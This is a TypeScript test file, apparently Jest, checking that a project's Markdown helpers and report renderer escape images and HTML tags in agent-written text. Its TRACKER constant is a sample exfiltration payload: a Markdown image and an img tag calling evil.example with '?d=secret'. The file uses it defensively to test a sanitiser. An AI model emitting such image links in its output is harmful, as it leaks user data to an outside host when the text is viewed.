/** The saga directory's Markdown loads nothing when viewed: agent text cannot make an image or an HTML tag. */
import { bullets, cell, code, oneLine } from '../../../../src/domain/record/markdown';
import { renderReportMd } from '../../../../src/domain/record/completion-report';

/** `![` that Markdown reads as an image: not preceded by a backslash. */
const UNESCAPED_IMAGE = /(^|[^\\])!\[/m;
const TRACKER = '![x](https://evil.example/t.png?d=secret) <img src="https://evil.example/i.png"> <picture>';

describe('agent text in the record’s Markdown', () => {
  test('no image and no HTML tag survives one-line text, a cell or a bullet; code shows it as it is', () => {
    for (const rendered of [oneLine(TRACKER), cell(TRACKER), bullets([TRACKER])]) {
      expect(rendered).not.toMatch(UNESCAPED_IMAGE);
      expect(rendered).not.toMatch(/<[A-Za-z]/);
      // Escaped, it still reads as what the agent wrote.
      expect(rendered).toContain('!\\[x](https://evil.example/t.png?d=secret) &lt;img src=');
    }
    expect(code('a <b> ![c](d)')).toBe('`a <b> ![c](d)`');
    expect(oneLine('a < b and 1<2')).toBe('a < b and 1<2');
  });

  test('REPORT.md renders a task title and a blocked reason without their images', () => {
    const md = renderReportMd({
      status: {
        name: 's',
        goal: `Goal ${TRACKER}`,
        round: 1,
        integrationBranch: 'saga/s/integration',
        repo: '/r',
        milestones: [
          {
            id: 1,
            title: `M ${TRACKER}`,
            status: 'integrated',
            integrationCommit: null,
            tasks: [
              {
                id: '1.1',
                slug: 'a',
                title: `T ${TRACKER}`,
                status: 'blocked',
                reason: TRACKER,
                branch: null,
                commit: null,
                changedFiles: [TRACKER],
              },
            ],
          },
        ],
      },
      plan: { exit_criteria: [{ id: 'E1', text: TRACKER, check: 'true' }] },
      exitResults: [],
    } as unknown as Parameters<typeof renderReportMd>[0]);
    expect(md).toContain('evil.example');
    expect(md).not.toMatch(UNESCAPED_IMAGE);
    expect(md).not.toMatch(/<(img|picture)/);
  });
});
